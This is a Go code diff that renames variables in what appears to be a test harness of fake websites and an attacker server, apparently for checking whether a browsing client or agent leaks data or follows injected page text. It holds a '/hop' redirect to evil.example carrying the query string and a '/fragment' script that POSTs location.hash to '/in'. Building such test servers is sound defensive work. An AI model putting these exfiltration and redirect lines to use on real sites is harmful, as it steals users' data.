@@ -32,18 +32,18 @@ func (s *sites) address() string { return s.Listener.Addr().String() }
 
 func (s *sites) port() string { return s.address()[strings.LastIndexByte(s.address(), ':')+1:] }
 
-func (s *sites) setCase(k *attempt) {
+func (s *sites) setCase(a *attempt) {
 	s.mu.Lock()
 	defer s.mu.Unlock()
-	s.cases[k.number] = k
+	s.cases[a.number] = a
 	s.log = nil
 }
 
 func (s *sites) caseOf(number int) *attempt {
 	s.mu.Lock()
 	defer s.mu.Unlock()
-	if k := s.cases[number]; k != nil {
-		return k
+	if a := s.cases[number]; a != nil {
+		return a
 	}
 	return &attempt{}
 }
@@ -100,23 +100,23 @@ func (s *sites) serve(w http.ResponseWriter, r *http.Request) {
 	}
 }
 
-func (s *sites) serveSite(w http.ResponseWriter, r *http.Request, k *attempt) {
+func (s *sites) serveSite(w http.ResponseWriter, r *http.Request, a *attempt) {
 	switch r.URL.Path {
 	case "/lamp.png":
 		w.Header().Set("Content-Type", "image/png")
 	case "/data.txt":
 		w.Header().Set("Content-Type", "text/plain; charset=utf-8")
-		_, _ = io.WriteString(w, openingHours+k.text)
+		_, _ = io.WriteString(w, openingHours+a.text)
 	case "/data.json":
 		w.Header().Set("Content-Type", "application/json")
-		_, _ = fmt.Fprintf(w, `{"hours":%s}`, quoteJSON(openingHours+k.text))
+		_, _ = fmt.Fprintf(w, `{"hours":%s}`, quoteJSON(openingHours+a.text))
 	case "/list.txt":
 		w.Header().Set("Content-Disposition", "attachment; filename=list.txt")
-		_, _ = io.WriteString(w, openingHours+k.text)
+		_, _ = io.WriteString(w, openingHours+a.text)
 	case "/hop":
 		http.Redirect(w, r, "http://evil.example/?"+r.URL.RawQuery, http.StatusFound)
 	default:
-		_, _ = io.WriteString(w, k.carrier.pageBody(k, r.URL.Path))
+		_, _ = io.WriteString(w, a.source.pageBody(a, r.URL.Path))
 	}
 }
 
@@ -125,8 +125,8 @@ func (s *sites) serveAttacker(w http.ResponseWriter, r *http.Request) {
 	number, _ := strconv.Atoi(r.URL.Query().Get("case"))
 	switch r.URL.Path {
 	case "/frame":
-		k := s.caseOf(number)
-		_, _ = io.WriteString(w, k.carrier.frameBody(k))
+		a := s.caseOf(number)
+		_, _ = io.WriteString(w, a.source.frameBody(a))
 	case "/fragment":
 		_, _ = io.WriteString(w, `<!doctype html><script>fetch('/in', {method: 'POST', body: location.hash})</script>`)
 	case "/run.sh":
